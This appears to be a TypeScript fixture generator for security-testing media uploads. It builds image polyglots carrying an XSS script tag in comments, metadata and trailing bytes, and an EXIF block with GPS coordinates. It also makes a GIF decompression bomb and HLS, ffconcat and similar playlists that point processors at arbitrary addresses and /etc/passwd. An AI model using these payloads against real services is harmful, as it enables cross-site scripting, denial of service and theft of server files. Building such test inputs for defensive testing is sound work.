import sharp from 'sharp';

/** Read by a browser that sniffs, it would run. */
export const script = '<script>alert(document.domain)</script>';

/** Pictures that are also something else: each with the script in a place that decoders pass over. */
export async function makePolyglots(): Promise<Record<string, Buffer>> {
  const picture = sharp({ create: { width: 40, height: 20, channels: 3, background: '#3a7' } });
  const [jpeg, png, gif] = await Promise.all([
    picture.jpeg().toBuffer(),
    picture.png().toBuffer(),
    picture.gif().toBuffer(),
  ]);
  const zip = Buffer.from('PK\u0005\u0006'.padEnd(22, '\0'), 'latin1');
  return {
    'JPEG and page': Buffer.concat([jpeg, Buffer.from(script)]),
    'JPEG with a page in its comment': Buffer.concat([jpeg.subarray(0, 2), comment(script), jpeg.subarray(2)]),
    'PNG and archive': Buffer.concat([png, Buffer.from(script), zip]),
    'GIF and program': Buffer.concat([gif, Buffer.from(`/*${script}*/`)]),
    'JPEG with XMP and a place': await picture
      .jpeg()
      .withXmp(`<x:xmpmeta>${script}</x:xmpmeta>`)
      .withExif(place)
      .toBuffer(),
  };
}

const place = { IFD0: { Artist: script }, IFD3: { GPSLatitude: '23/1 33/1 0/1', GPSLatitudeRef: 'S' } };

/** A comment segment of a JPEG. */
function comment(text: string): Buffer {
  const head = Buffer.from([0xff, 0xfe, 0, 0]);
  head.writeUInt16BE(text.length + 2, 2);
  return Buffer.concat([head, Buffer.from(text)]);
}

/** A GIF of so many frames, each of the whole side, in some thirty bytes a frame. */
export function makeAnimationBomb(side: number, frames: number): Buffer {
  const head = Buffer.from('GIF89a\0\0\0\0\x80\0\0\0\0\0\xff\xff\xff', 'latin1');
  head.writeUInt16LE(side, 6);
  head.writeUInt16LE(side, 8);
  const frame = Buffer.from('\x21\xf9\x04\0\0\0\0\0\x2c\0\0\0\0\0\0\0\0\0\x02\x02\x4c\x01\0', 'latin1');
  frame.writeUInt16LE(side, 13);
  frame.writeUInt16LE(side, 15);
  return Buffer.concat([head, ...Array.from({ length: frames }, () => frame), Buffer.from(';')]);
}

/** Lists that a careless reader follows to other files and addresses. */
export function makePlaylists(address: string): Record<string, string> {
  return {
    HLS: `#EXTM3U\n#EXT-X-TARGETDURATION:10\n#EXTINF:10,\n${address}\nfile:///etc/passwd\n#EXT-X-ENDLIST\n`,
    DASH: `<?xml version="1.0"?><MPD><Period><BaseURL>${address}</BaseURL></Period></MPD>`,
    ffconcat: `ffconcat version 1.0\nfile ${address}\nfile /etc/passwd\n`,
    SDP: `v=0\no=- 0 0 IN IP4 127.0.0.1\nc=IN IP4 127.0.0.1\nm=video 5004 RTP/AVP 96\n`,
    ASX: `<asx version="3.0"><entry><ref href="${address}"/></entry></asx>`,
  };
}
